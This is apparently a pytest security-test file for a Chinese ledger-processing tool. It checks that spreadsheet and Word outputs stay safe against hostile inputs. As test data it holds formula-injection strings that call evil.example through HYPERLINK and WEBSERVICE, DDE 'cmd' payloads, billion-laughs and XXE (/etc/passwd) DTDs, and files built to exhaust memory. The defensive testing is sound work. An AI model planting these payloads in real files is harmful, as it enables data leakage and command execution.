"""The third attack run, on what the first two did not cover: text that would become a live
formula in the outputs openpyxl writes (督办汇总, 与上期对比), numbers no date can be in a
date-formatted cell (a Rust panic in calamine), a cell placed far below its row (calamine
aborted the process), DTDs in any part of a workbook, template or Word file, a full disk under
every writer, Ctrl+C in the middle of a 督办 folder, department names that collide as file
names, an output that is an input through a link, spreadsheet formats in disguise, upload
names of many bytes. Each file is built for real and run through the real command in a child
process (``hostile_files.run_limited``: a 2 GB address-space limit) unless noted."""

from __future__ import annotations

import datetime as dt
import hashlib
import os
import re
import resource
import shutil
import signal
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import openpyxl
import pytest
import xlsxwriter
from conftest import INFO, STANDARD_HEADER, good_row
from hostile_files import LEDGER_PART, base_ledger, rewrite, run_limited, template_with

ROOT = Path(__file__).resolve().parent.parent
EXAMPLE = ROOT / "examples" / "示例台账.xlsx"
DAY = ["--today", "2024-05-10"]
LATE = {"整改状态": "正在推进", "整改时限": "2024年3月1日", "完成时间": None}


def text_ledger(path: Path, rows: list[list], info: dict = INFO) -> Path:
    """A ledger whose text cells are text (shared strings), whatever they start with: as a
    clerk's Excel saves ``=HYPERLINK(…)`` typed after an apostrophe, or a system exports it."""
    options = {"strings_to_formulas": False, "strings_to_numbers": False, "strings_to_urls": False}
    wb = xlsxwriter.Workbook(str(path), options)
    date = wb.add_format({"num_format": "yyyy-mm-dd"})

    def put(ws, r: int, c: int, v) -> None:
        if isinstance(v, dt.date):
            ws.write_datetime(r, c, dt.datetime.combine(v, dt.time()), date)
        elif v is not None:
            ws.write(r, c, v)

    ws = wb.add_worksheet("整改台账")
    ws.write_row(0, 0, STANDARD_HEADER)
    for r, row in enumerate(rows, start=1):
        for c, v in enumerate(row):
            put(ws, r, c, v)
    wi = wb.add_worksheet("基本信息")
    wi.write_row(0, 0, ["项目", "内容"])
    for r, (k, v) in enumerate(info.items(), start=1):
        wi.write(r, 0, k)
        put(wi, r, 1, v)
    wb.close()
    return path


def sha(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def clean(r: dict) -> str:
    """The output of a run that must be a Chinese answer: no traceback, no 意外问题, no Rust
    panic text, bounded memory."""
    assert r["code"] != "TIMEOUT", r
    text = r["out"]
    for bad in ("Traceback", "意外问题", "panicked", "RUST_BACKTRACE", "memory allocation"):
        assert bad not in text, text
    assert r["peak"] < 1000, (r["peak"], text)
    return text


def formulas(path: Path) -> list[str]:
    """Every formula stored in a workbook's sheets."""
    with zipfile.ZipFile(path) as z:
        return [
            f
            for n in z.namelist()
            if n.startswith("xl/worksheets/") and n.endswith(".xml")
            for f in re.findall(r"<f>(.*?)</f>", z.read(n).decode())
        ]


# ---------------------------------------------------------------------------------------------
# Text that looks like a formula, in every workbook we write


INJECTIONS = {
    "问题": '=HYPERLINK("http://evil.example/?"&A1,"点我")',
    "整改措施": "=cmd|' /C calc'!A0",
    "责任部门": "=1+1",
    "责任人": "@SUM(1+1)",
    "整改进展及成效": '+WEBSERVICE("http://evil.example")',
}


def test_text_starting_with_a_formula_sign_stays_text_in_every_output(tmp_path):
    """duban's 督办汇总.xlsx and diff's 与上期对比 sheet were written with openpyxl's
    ``append``, which makes ``=…`` a live formula: a 责任部门 typed ``=cmd|…`` ran when the
    督办汇总 was opened. Every .xlsx output is checked: no formula from the data."""
    old = text_ledger(tmp_path / "上期.xlsx", [good_row(1), good_row(2)])
    rows = [good_row(1, **INJECTIONS, **LATE), good_row(2, 整改措施="-2+3", **LATE)]
    new = text_ledger(
        tmp_path / "本期.xlsx", rows, info={**INFO, "单位名称": '=HYPERLINK("http://x","单位")'}
    )
    before = sha(new)
    outputs = {
        "duban": (["duban", str(new), "-o", str(tmp_path / "督办"), *DAY], tmp_path / "督办" / "督办汇总.xlsx"),
        "diff": (["diff", str(old), str(new), "--mark", str(tmp_path / "对比.xlsx"), *DAY], tmp_path / "对比.xlsx"),
        "check": (["check", str(new), "--mark", str(tmp_path / "标注.xlsx"), *DAY], tmp_path / "标注.xlsx"),
        "merge": (["merge", str(new), str(old), "-o", str(tmp_path / "汇总.xlsx"), *DAY], tmp_path / "汇总.xlsx"),
    }  # fmt: skip
    for name, (args, out) in outputs.items():
        r = run_limited(args, timeout=180)
        clean(r)
        assert r["code"] in (0, 1) and out.exists(), (name, r["out"])
        assert formulas(out) == [], (name, formulas(out))
    assert sha(new) == before
    items = openpyxl.load_workbook(tmp_path / "督办" / "督办汇总.xlsx")["督办事项"]
    texts = [c.value for row in items.iter_rows(min_row=2) for c in row]
    for value in ("=1+1", INJECTIONS["问题"], INJECTIONS["整改措施"], "@SUM(1+1)"):
        assert value in texts, (value, texts)
    changes = openpyxl.load_workbook(tmp_path / "对比.xlsx")["与上期对比"]
    shown = [c for row in changes.iter_rows(min_row=4) for c in row if c.value]
    assert any(c.value == INJECTIONS["问题"] and c.data_type == "s" for c in shown), shown


def test_a_dde_payload_hidden_in_a_defined_name_is_dropped_from_the_copies(tmp_path):
    """``zz = cmd|'/C calc'!A0`` as a defined name, a cell ``=zz``: the cell's formula is not
    live on its face, so both marked copies kept name and cell, and Excel ran the DDE request
    when a copy was opened (its calculation on load). Names that are live go."""
    path = base_ledger(tmp_path / "名称.xlsx")
    names = (
        b"<definedNames><definedName name=\"zz\">cmd|'/C calc'!A0</definedName>"
        b'<definedName name="ww">WEBSERVICE("http://evil.example/")</definedName>'
        + '<definedName name="ok">整改台账!$A$1:$M$4</definedName></definedNames>'.encode()
    )

    def cells(xml: bytes) -> bytes:
        end = xml.index(b"</row>", xml.index(b'<row r="2"'))
        return xml[:end] + b'<c r="N2"><f>zz</f><v>0</v></c><c r="O2" t="str"><f>ww</f><v>x</v></c>' + xml[end:]  # fmt: skip

    rewrite(
        path,
        {
            "xl/workbook.xml": lambda x: x.replace(b"<calcPr", names + b"<calcPr", 1),
            LEDGER_PART: cells,
        },
    )
    for args, out in (
        (["check", str(path), "--mark", str(tmp_path / "标注.xlsx"), *DAY], tmp_path / "标注.xlsx"),
        (["diff", str(path), str(path), "--mark", str(tmp_path / "对比.xlsx"), *DAY], tmp_path / "对比.xlsx"),
    ):  # fmt: skip
        r = run_limited(args)
        assert r["code"] == 0 and out.exists(), clean(r)
        with zipfile.ZipFile(out) as z:
            workbook = z.read("xl/workbook.xml")
        assert b"cmd|" not in workbook and b"WEBSERVICE" not in workbook, workbook
        assert b'name="ok"' in workbook  # an ordinary name stays


# ---------------------------------------------------------------------------------------------
# Numbers in date-formatted cells


def _date_cell_ledger(path: Path, value: str) -> Path:
    """The example's layout with 整改时限 of the first measure a date-formatted number cell
    holding ``value`` as written in the XML (XlsxWriter cannot write -inf or NaN itself)."""
    base_ledger(path)
    with zipfile.ZipFile(path) as z:
        styles = z.read("xl/styles.xml")
    assert b"numFmt" in styles  # base_ledger's date format: style 1

    def patch(xml: bytes) -> bytes:
        return re.sub(rb'<c r="I2"[^>]*>.*?</c>', f'<c r="I2" s="1"><v>{value}</v></c>'.encode(), xml, count=1)  # fmt: skip

    rewrite(path, {LEDGER_PART: patch})
    return path


@pytest.mark.parametrize("value", ["-inf", "-1e308", "-2e11", "-1.5E+300"])
def test_a_date_formatted_number_no_date_can_be_is_named_by_cell(tmp_path, value):
    """calamine panicked (TimeDelta out of bounds) converting these: a PanicException is not an
    Exception, so it ended in a traceback with Rust's English backtrace."""
    path = _date_cell_ledger(tmp_path / "日期.xlsx", value)
    before = sha(path)
    for args in (["check", str(path), *DAY], ["diff", str(path), str(path), *DAY]):
        r = run_limited(args)
        text = clean(r)
        assert r["code"] == 2 and "单元格 I2" in text and value in text, text
        assert "工作表“整改台账”" in text and "日期.xlsx" in text, text
    r = run_limited(["merge", str(path), str(EXAMPLE), "-o", str(tmp_path / "汇总.xlsx"), *DAY])
    text = clean(r)
    assert r["code"] == 0 and "未能读取" in text and "单元格 I2" in text, text
    assert sha(path) == before


@pytest.mark.parametrize(
    "value, fragment",
    [
        ("2958465", "9999-12-31"),  # the last day Excel has
        ("2958466", "2958466"),  # one past it
        ("60", "1900"),  # Excel's 1900-02-29
        ("-1", "无法识别"),
        ("1e308", "1e+308"),
        ("NaN", "无法识别"),
        ("INF", "无法识别"),
        ("-0", "无法识别"),
    ],
)
def test_impossible_dates_are_findings_of_their_cell(tmp_path, value, fragment):
    path = _date_cell_ledger(tmp_path / "日期.xlsx", value)
    r = run_limited(["check", str(path), *DAY])
    text = clean(r)
    assert r["code"] == 1, text
    line = next(ln for ln in text.splitlines() if "整改台账!I2" in ln)
    assert fragment in line and "整改时限" in line, line


# ---------------------------------------------------------------------------------------------
# A cell placed far below its row


def test_a_cell_placed_far_below_its_row_is_refused_before_calamine_sizes_a_grid(tmp_path):
    """``<row r="2"><c r="I99999999999">``: the scan took the row's number, calamine the
    cell's, and asked for 505 GB (the process aborted, exit 134, with a Rust backtrace)."""
    path = base_ledger(tmp_path / "远.xlsx")
    rewrite(
        path,
        {LEDGER_PART: lambda x: re.sub(rb'<c r="I2"', b'<c r="I99999999999"', x, count=1)},
    )
    before = sha(path)
    for args in (
        ["check", str(path), *DAY],
        ["check", str(path), "--mark", str(tmp_path / "标注.xlsx"), *DAY],
        ["diff", str(path), str(path), *DAY],
        ["stats", str(path), *DAY],
    ):
        r = run_limited(args)
        text = clean(r)
        assert r["code"] == 2 and "I99999999999" in text and "远.xlsx" in text, (args, text)
    assert not (tmp_path / "标注.xlsx").exists() and sha(path) == before


def test_a_shared_strings_table_claiming_billions_of_texts_is_refused(tmp_path):
    """``<sst uniqueCount="4294967295">`` in a 7 KB workbook: calamine reserved 103 GB for the
    texts before reading one, and the process aborted (every command). ``count`` (references,
    legitimately many) is not a claim of size."""
    path = base_ledger(tmp_path / "共享.xlsx")
    rewrite(
        path,
        {"xl/sharedStrings.xml": lambda x: re.sub(rb'uniqueCount="\d+"', b'uniqueCount="4294967295"', x)},
    )  # fmt: skip
    for args in (["check", str(path), *DAY], ["diff", str(path), str(path), *DAY]):
        r = run_limited(args)
        text = clean(r)
        assert r["code"] == 2 and "4,294,967,295" in text and "共享.xlsx" in text, text
    many = base_ledger(tmp_path / "引用多.xlsx")
    rewrite(many, {"xl/sharedStrings.xml": lambda x: re.sub(rb'\bcount="\d+"', b'count="4294967295"', x)})  # fmt: skip
    r = run_limited(["check", str(many), *DAY])
    assert r["code"] == 0 and "没有发现问题" in clean(r), r["out"]


def test_a_sheet_of_formatted_empty_rows_is_read(tmp_path):
    """A million ``<row r="…" s="1" customFormat="1" ht="30" customHeight="1"/>`` (rows
    formatted down to the end of the sheet, no cell in them): the reader cut its chunks only
    after ``</row>`` and refused the sheet as “一行的内容超过 64 MB”, without naming the file."""
    path = base_ledger(tmp_path / "格式行.xlsx")
    rows = b"".join(
        b'<row r="%d" spans="1:13" s="1" customFormat="1" ht="30" customHeight="1"/>' % i
        for i in range(5, 1_048_577)
    )
    rewrite(path, {LEDGER_PART: lambda x: x.replace(b"</sheetData>", rows + b"</sheetData>", 1)})
    r = run_limited(["check", str(path), *DAY], timeout=300)
    text = clean(r)
    assert r["code"] == 0 and "没有发现问题" in text, text


def test_a_workbook_of_thousands_of_small_sheets_is_read_in_linear_time(tmp_path):
    """5,000 sheets of 20 rows (4 MB) and the ledger last: each sheet's scan, and each part the
    marked copy read, opened the zip again and re-read its 10,000-entry directory — check took
    200 s and check --mark 330 s (quadratic). The time limit of the run is the bound here."""
    path = tmp_path / "多表.xlsx"
    wb = xlsxwriter.Workbook(str(path))
    for i in range(5000):
        ws = wb.add_worksheet(f"草稿{i}")
        for r in range(20):
            ws.write_row(r, 0, [f"备注{i}-{r}", "一些文字", r])
    ws = wb.add_worksheet("台账")
    ws.write_row(0, 0, STANDARD_HEADER)
    for r in range(1, 4):
        ws.write_row(r, 0, [str(v) if isinstance(v, dt.date) else v for v in good_row(r)])
    wb.close()
    for args in (
        ["check", str(path), *DAY],
        ["check", str(path), "--mark", str(tmp_path / "标注.xlsx"), *DAY],
    ):
        r = run_limited(args, timeout=150)
        assert r["code"] == 0 and "没有发现问题" in clean(r), r["out"]


# ---------------------------------------------------------------------------------------------
# DTDs: in any part, of any Office file we read


_LAUGHS = (
    b'<!DOCTYPE r [<!ENTITY a "aaaaaaaaaa">'
    + b"".join(
        b'<!ENTITY %c "%s">' % (ord("b") + i, (b"&%c;" % (ord("a") + i)) * 10) for i in range(8)
    )
    + b"]>"
)


def _with_dtd(dtd: bytes, before: bytes = b""):
    def change(xml: bytes) -> bytes:
        head, sep, rest = xml.partition(b"?>")
        if not sep:
            head, rest = b"", xml
        else:
            head += sep
        return head + before + dtd + rest

    return change


@pytest.mark.parametrize(
    "part, dtd, before",
    [
        ("xl/theme/theme1.xml", _LAUGHS, b""),
        ("docProps/app.xml", b'<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>', b""),
        ("_rels/.rels", _LAUGHS, b""),
        # a DTD after a long comment: the prolog is read, not a fixed number of bytes
        ("docProps/core.xml", _LAUGHS, b"<!--" + b" " * 30_000 + b"-->"),
    ],
    ids=["laughs-theme", "xxe-docprops", "laughs-rels", "after-a-comment"],
)
def test_a_dtd_in_any_part_of_a_ledger_is_refused(tmp_path, part, dtd, before):
    """Parts nobody here parses (theme, document properties) were copied as they were into
    the marked and compared copies: the entities went on to Excel, LibreOffice and whoever the
    copy was sent to."""
    path = base_ledger(tmp_path / "实体.xlsx")
    rewrite(path, {part: _with_dtd(dtd, before)})
    digest = sha(path)
    for args, out in (
        (["check", str(path), "--mark", str(tmp_path / "标注.xlsx"), *DAY], tmp_path / "标注.xlsx"),
        (["diff", str(path), str(path), "--mark", str(tmp_path / "对比.xlsx"), *DAY], tmp_path / "对比.xlsx"),
    ):  # fmt: skip
        r = run_limited(args)
        text = clean(r)
        assert r["code"] == 2 and f"“{part}”" in text and "DTD" in text, text
        assert "实体.xlsx" in text and not out.exists(), text
    r = run_limited(["merge", str(path), str(EXAMPLE), "-o", str(tmp_path / "汇总.xlsx"), *DAY])
    assert r["code"] == 0 and "未能读取" in clean(r) and part in r["out"], r["out"]
    assert sha(path) == digest


def test_a_utf16_part_with_a_dtd_is_refused(tmp_path):
    path = base_ledger(tmp_path / "宽字符.xlsx")
    xml = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE r [<!ENTITY a "b">]><Properties/>'
    rewrite(path, {"docProps/app.xml": b"\xff\xfe" + xml.encode("utf-16-le")})
    r = run_limited(["check", str(path), *DAY])
    assert r["code"] == 2 and "docProps/app.xml" in clean(r) and "DTD" in r["out"], r["out"]


def test_a_dtd_in_a_part_of_a_template_or_a_word_file_is_refused(tmp_path):
    """word/fontTable.xml is passed into the generated 公文 unparsed: its DTD reached the
    document sent out; import reads styles with python-docx."""
    template = template_with(tmp_path / "模板.docx", "正文")
    rewrite(template, {"word/fontTable.xml": _with_dtd(_LAUGHS)})
    out = tmp_path / "方案.docx"
    r = run_limited(["plan", str(EXAMPLE), "--template", str(template), "-o", str(out), "--force"])
    text = clean(r)
    assert r["code"] == 2 and "模板 模板.docx" in text and "word/fontTable.xml" in text, text
    assert not out.exists()
    doc = template_with(tmp_path / "反馈意见.docx", "一、存在的问题")
    rewrite(doc, {"word/styles.xml": _with_dtd(b'<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>')})  # fmt: skip
    r = run_limited(["import", str(doc), "-o", str(tmp_path / "台账.xlsx")])
    text = clean(r)
    assert r["code"] == 2 and "反馈意见.docx" in text and "word/styles.xml" in text, text
    assert not (tmp_path / "台账.xlsx").exists()


# ---------------------------------------------------------------------------------------------
# A full disk, under every writer


def _small_disk() -> None:
    signal.signal(signal.SIGXFSZ, signal.SIG_IGN)  # the write fails with EFBIG instead
    resource.setrlimit(resource.RLIMIT_FSIZE, (20_000, 20_000))


@pytest.mark.skipif(not hasattr(signal, "SIGXFSZ"), reason="POSIX file size limit")
def test_every_writer_says_a_full_disk_in_chinese_and_leaves_nothing(tmp_path):
    """merge ended in 意外问题（FileCreateError）: XlsxWriter wraps the OS error. duban and
    templates export left a folder with the files written before the disk filled."""
    ledger = tmp_path / "台账.xlsx"
    shutil.copy(EXAMPLE, ledger)
    docx = template_with(tmp_path / "反馈意见.docx", "一、存在的问题\n1.学习不规范。")
    runs = {
        "merge": ["merge", str(ledger), "-o", str(tmp_path / "汇总.xlsx"), *DAY],
        "duban": ["duban", str(ledger), "-o", str(tmp_path / "督办"), *DAY],
        "diff": ["diff", str(ledger), str(ledger), "--mark", str(tmp_path / "对比.xlsx"), *DAY],
        "import": ["import", str(docx), "-o", str(tmp_path / "导入.xlsx")],
        "report": ["report", str(ledger), "-o", str(tmp_path / "报告.docx"), "--as-of", "2024-05-10"],
        "templates": ["templates", "export", str(tmp_path / "模板")],
    }  # fmt: skip
    before = sorted(p.name for p in tmp_path.iterdir())
    for name, args in runs.items():
        res = subprocess.run(
            [sys.executable, "-m", "ledger_tools", *args],
            cwd=ROOT,
            capture_output=True,
            text=True,
            timeout=300,
            preexec_fn=_small_disk,
        )
        assert res.returncode == 2, (name, res.stderr)
        assert "无法写入" in res.stderr and "Traceback" not in res.stderr, (name, res.stderr)
        assert "意外问题" not in res.stderr, (name, res.stderr)
        assert sorted(p.name for p in tmp_path.iterdir()) == before, name


# ---------------------------------------------------------------------------------------------
# Ctrl+C in the middle of a 督办 folder


def test_ctrl_c_while_the_duban_folder_is_written_leaves_no_folder(tmp_path):
    """Each notice is written atomically, but the folder of some notices and no 督办汇总
    looked finished; the next run then refused (its files exist) or mixed two runs."""
    rows = [good_row(i, 责任部门=f"第{i}科", **LATE) for i in range(1, 121)]
    ledger = text_ledger(tmp_path / "台账.xlsx", rows)
    folder = tmp_path / "督办"
    proc = subprocess.Popen(
        [sys.executable, "-m", "ledger_tools", "duban", str(ledger), "-o", str(folder), *DAY],
        cwd=ROOT,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.PIPE,
    )
    deadline = time.monotonic() + 120
    while proc.poll() is None and time.monotonic() < deadline:
        if folder.is_dir() and len(list(folder.glob("督办通知-*.docx"))) >= 3:
            break
        time.sleep(0.01)
    assert proc.poll() is None, "duban ended before it could be interrupted"
    proc.send_signal(signal.SIGINT)
    _, err = proc.communicate(timeout=120)
    assert proc.returncode == 130 and "已取消" in err.decode(), err.decode()
    assert b"Traceback" not in err
    assert not folder.exists(), sorted(p.name for p in folder.iterdir())


# ---------------------------------------------------------------------------------------------
# Names that collide as file names


def test_departments_that_collide_as_file_names_each_get_their_notice(tmp_path):
    """``办公室:`` and ``办公室`` (``:`` cannot be in a file name), ``..`` and ``.``, a name of
    200 characters: one file replaced another (with --force a notice was lost silently), or
    the name was too long for the disk."""
    names = ["办公室:", "办公室", "..", ".", "部" * 200, "整改\u202e科", "Ａ科", "a科", "A科"]
    rows = [good_row(i, 责任部门=n, **LATE) for i, n in enumerate(names, start=1)]
    ledger = text_ledger(tmp_path / "台账.xlsx", rows)
    for extra in ([], ["--force"]):
        r = run_limited(["duban", str(ledger), "-o", str(tmp_path / "督办"), *DAY, *extra])
        text = clean(r)
        assert r["code"] == 0, text
        notices = list((tmp_path / "督办").glob("督办通知-*.docx"))
        said = [ln.rsplit("→ ", 1)[1] for ln in text.splitlines() if "→ " in ln]
        assert len(said) >= len(names) - 2, text  # Ａ科/A科/a科 may be one department
        assert sorted(said) == sorted(str(p) for p in notices), (said, notices)
        assert all(len(p.name.encode()) < 200 for p in notices)
        assert "\u202e" not in "".join(p.name for p in notices)


# ---------------------------------------------------------------------------------------------
# An output that is an input through a link


@pytest.mark.skipif(not hasattr(os, "symlink"), reason="needs symlinks")
def test_an_output_linked_to_an_input_is_refused_by_every_writer(tmp_path):
    ledger = tmp_path / "台账.xlsx"
    shutil.copy(EXAMPLE, ledger)
    digest = sha(ledger)
    for name in ("链接.xlsx", "链接.docx"):
        (tmp_path / name).symlink_to(ledger)
    os.link(ledger, tmp_path / "硬链接.xlsx")
    for args in (
        ["check", str(ledger), "--mark", str(tmp_path / "链接.xlsx"), *DAY],
        ["check", str(ledger), "--mark", str(tmp_path / "硬链接.xlsx"), *DAY],
        ["diff", str(ledger), str(ledger), "--mark", str(tmp_path / "链接.xlsx"), "--force", *DAY],
        ["merge", str(ledger), "-o", str(tmp_path / "链接.xlsx"), "--force", *DAY],
        ["merge", str(ledger), "-o", str(tmp_path / "硬链接.xlsx"), "--force", *DAY],
        ["plan", str(ledger), "-o", str(tmp_path / "链接.docx"), "--overwrite", "--force", *DAY],
    ):
        r = run_limited(args)
        text = clean(r)
        assert r["code"] == 2 and "与输入文件相同" in text, (args, text)
    assert sha(ledger) == digest and (tmp_path / "链接.xlsx").is_symlink()


# ---------------------------------------------------------------------------------------------
# Formats in disguise


def _zip(path: Path, members: dict[str, bytes]) -> Path:
    with zipfile.ZipFile(path, "w") as z:
        for name, data in members.items():
            z.writestr(name, data)
    return path


@pytest.mark.parametrize(
    "name, build, fragment",
    [
        (
            "ods.xlsx",
            lambda p: _zip(p, {"mimetype": b"application/vnd.oasis.opendocument.spreadsheet", "content.xml": b"<x/>"}),
            "OpenDocument",
        ),
        ("xlsb.xlsx", lambda p: _zip(p, {"xl/workbook.bin": b"\x83\x01\x00"}), "二进制工作簿（.xlsb）"),
        ("网页.xls", lambda p: p.write_text("<html><table><tr><td>序号</td></tr></table></html>"), "不是 Excel 工作簿"),
        (
            "xml2003.xls",
            lambda p: p.write_text('<?xml version="1.0"?><?mso-application progid="Excel.Sheet"?><Workbook/>'),
            "不是 Excel 工作簿",
        ),
        ("压缩.xlsx", lambda p: p.write_bytes(__import__("gzip").compress(EXAMPLE.read_bytes())), "不是 Excel 工作簿"),
    ],
    ids=["ods", "xlsb", "html-xls", "spreadsheetml-2003", "gzip"],
)  # fmt: skip
def test_spreadsheets_in_another_format_are_named(tmp_path, name, build, fragment):
    """An .ods or .xlsb was called damaged (“已损坏或不是完整的 .xlsx”): it is intact and
    only needs saving as .xlsx."""
    path = tmp_path / name
    build(path)
    r = run_limited(["check", str(path), *DAY])
    text = clean(r)
    assert r["code"] == 2 and fragment in text and name in text and "另存为" in text, text
    assert "已损坏" not in text or fragment == "不是 Excel 工作簿", text


def test_diff_mark_of_a_strict_open_xml_workbook_is_refused_not_an_empty_copy(tmp_path):
    """openpyxl reads no sheet of a Strict Open XML workbook: the “copy of the new ledger”
    held only 与上期对比 (the ledger silently gone), with openpyxl's English warning."""
    path = base_ledger(tmp_path / "严格.xlsx")
    strict = {
        b"http://schemas.openxmlformats.org/spreadsheetml/2006/main": b"http://purl.oclc.org/ooxml/spreadsheetml/main",
        b"http://schemas.openxmlformats.org/officeDocument/2006/relationships": b"http://purl.oclc.org/ooxml/officeDocument/relationships",
    }  # fmt: skip

    def to_strict(xml: bytes) -> bytes:
        for a, b in strict.items():
            xml = xml.replace(a, b)
        return xml

    with zipfile.ZipFile(path) as z:
        rewrite(path, {n: to_strict for n in z.namelist()})
    r = run_limited(["check", str(path), *DAY])
    assert r["code"] == 0 and "没有发现问题" in clean(r), r["out"]  # it reads
    out = tmp_path / "对比.xlsx"
    r = run_limited(["diff", str(path), str(path), "--mark", str(out), *DAY])
    text = clean(r)
    assert r["code"] == 2 and "Strict Open XML" in text and not out.exists(), text
    assert "Warning" not in text and "invalid specification" not in text, text


def test_library_warnings_do_not_reach_the_user(tmp_path):
    """A WPS workbook's data-validation extension: openpyxl (diff --mark) printed “UserWarning:
    Data Validation extension is not supported and will be removed”."""
    path = base_ledger(tmp_path / "扩展.xlsx")
    ext = (
        b'<extLst><ext uri="{CCE6A557-97BC-4b89-ADB6-D9C93CAAB3DF}" xmlns:x14="http://schemas.'
        b'microsoft.com/office/spreadsheetml/2009/9/main"><x14:dataValidations count="1" '
        b'xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"><x14:dataValidation '
        b'type="list"><x14:formula1><xm:f>Sheet2!$B$2:$B$5</xm:f></x14:formula1>'
        b"<xm:sqref>J2:J100</xm:sqref></x14:dataValidation></x14:dataValidations></ext></extLst>"
    )
    rewrite(path, {LEDGER_PART: lambda x: x.replace(b"</worksheet>", ext + b"</worksheet>")})
    out = tmp_path / "对比.xlsx"
    r = run_limited(["diff", str(path), str(path), "--mark", str(out), *DAY])
    text = clean(r)
    assert r["code"] == 0 and out.exists(), text
    assert "Warning" not in text and "not supported" not in text, text


# ---------------------------------------------------------------------------------------------
# The web page: upload names of many bytes


def test_an_upload_name_of_many_bytes_is_shortened_not_a_500(tmp_path):
    """80 emoji or CJK characters passed the 80-character cut but not the disk's 255 bytes
    (with “-校验结果.xlsx” added): an OSError and 意外问题."""
    pytest.importorskip("starlette")
    from test_web_attack import Server

    server = Server()
    try:
        for name in ("😀" * 80 + ".xlsx", "字" * 80 + ".xlsx"):
            res = server.post("api/upload", files={"file": (name, EXAMPLE.read_bytes())})
            assert res.status_code == 200, res.text
            upload = res.json()["id"]
            res = server.post(
                "api/download", json={"id": upload, "what": "marked", "today": "2024-05-10"}
            )
            assert res.status_code == 200 and res.content[:2] == b"PK", res.text
    finally:
        err = server.stop()
    assert "Traceback" not in err, err


def test_a_temporary_file_caught_by_ctrl_c_before_its_block_goes_with_the_folder(tmp_path):
    """The window test_ctrl_c_… hits once in a while under load: Ctrl+C between a temporary
    file's creation and the ``try`` that removes it. The folder made by the run and this
    run's temporary file are removed; another process's temporary file would stay."""
    from ledger_tools import output

    folder = tmp_path / "督办"
    with pytest.raises(KeyboardInterrupt), output.all_or_none(folder, [folder / "a.docx"]):
        output._temporary_file(folder / "a.docx")  # created, never handed to its block
        raise KeyboardInterrupt
    assert not folder.exists()
